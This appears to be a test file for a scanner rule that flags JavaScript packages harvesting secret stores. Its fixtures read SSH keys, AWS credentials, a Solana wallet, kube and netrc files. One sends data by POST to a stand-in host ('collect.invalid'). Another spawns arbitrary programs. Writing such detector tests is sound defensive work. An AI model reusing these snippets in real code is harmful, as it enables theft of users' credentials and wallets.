import { examine } from '../../../test/examine.ts';
import { harvestsSecretStores } from './harvests-secret-stores.ts';

const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
examine(harvestsSecretStores, {
  speaks: [
    {
      when: 'it goes through three',
      files: {
        'index.js': `${CP} const h = os.homedir(); fs.readFileSync(h + '/.ssh/id_rsa'); fs.readFileSync(h + '/.aws/credentials'); fs.readFileSync(h + '/.config/solana/id.json')`,
      },
      weight: 'proof',
    },
    {
      when: 'the places stand in a list',
      files: {
        'index.js': `${CP} for (const p of ['.ssh/id_rsa', '.aws/credentials', '.git-credentials', '.bash_history']) { try { fs.readFileSync(path.join(os.homedir(), p)) } catch {} }`,
      },
      weight: 'proof',
    },
    {
      when: 'when it is called, and it can send',
      files: {
        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = text => fetch('https://collect.invalid/', { method: 'POST', body: text })`,
      },
      weight: 'strong',
    },
    {
      when: 'when it is called, and a program that it starts may be any',
      files: {
        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = (a, b) => cp.spawn(a, b)`,
      },
      weight: 'strong',
    },
    {
      when: 'the same where Git is asked for a file by where it lies',
      files: {
        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = () => cp.spawnSync('git', ['show', ':' + process.cwd()])`,
      },
      weight: 'weak',
    },
    {
      when: 'when it is called, with no way for anything to leave the machine',
      files: {
        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = () => cp.spawnSync('git', ['ls-files'])`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'a client reads its own',
      files: {
        'index.js': `${CP} exports.c = () => { fs.readFileSync(os.homedir() + '/.aws/credentials'); fs.readFileSync(os.homedir() + '/.aws/config') }`,
      },
    },
    {
      when: 'a package manager reads what it needs',
      files: {
        'index.js': `${CP} const h = os.homedir(); fs.readFileSync(h + '/.npmrc'); fs.readFileSync(h + '/.yarnrc'); fs.readFileSync('.env'); fs.readFileSync(h + '/.docker/config.json')`,
      },
    },
    { when: 'a list names them', files: { 'index.js': `module.exports = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.netrc'];` } },
  ],
});
